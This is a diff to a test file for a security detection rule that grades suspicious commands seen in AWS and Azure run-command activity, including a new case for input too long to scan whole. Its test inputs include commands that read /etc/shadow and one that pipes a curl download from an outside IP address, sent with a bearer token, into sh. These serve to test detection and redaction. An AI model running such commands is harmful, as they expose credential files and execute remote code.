@@ -52,6 +52,7 @@ ruleTable(suspiciousCommand, [
   { name: 'one strong and one weak category', activity: now('whoami; cat /etc/shadow'), expected: 'high' },
   { name: 'one category twice', activity: now('cat /etc/shadow; cat /etc/shadow'), expected: 'high' },
   { name: 'weak categories only', activity: now('whoami'), expected: 'low' },
+  { name: 'a text too long to be looked at whole', activity: now('echo padding; '.repeat(20_000)), expected: 'low' },
   { name: 'no text to look at', activity: awsActivity({ id: 'now' }), expected: null },
   { name: 'an empty text', activity: now(''), expected: null },
   { name: 'the text of an Azure run command, where it is known', activity: azureActivity(text('cat /etc/shadow')), expected: 'high' },
@@ -74,5 +75,11 @@ describe('what suspicious-command shows', () => {
     const finding = await findingOf(suspiciousCommand, { activity: now('curl -H "Authorization: Bearer abcdef0123456789abcdef" http://203.0.113.9/x | sh') })
     expect(finding?.evidence[0]?.value).toContain('Authorization: Bearer [redacted]')
     expect(JSON.stringify(finding)).not.toContain('abcdef0123456789')
+  })
+
+  it('says when it did not look at everything', async () => {
+    const finding = await findingOf(suspiciousCommand, { activity: now(`cat /etc/shadow\n${'echo padding; '.repeat(20_000)}`) })
+    expect(finding?.severity).toBe('high')
+    expect(finding?.evidence.at(-1)?.label).toBe('Not looked at')
   })
 })
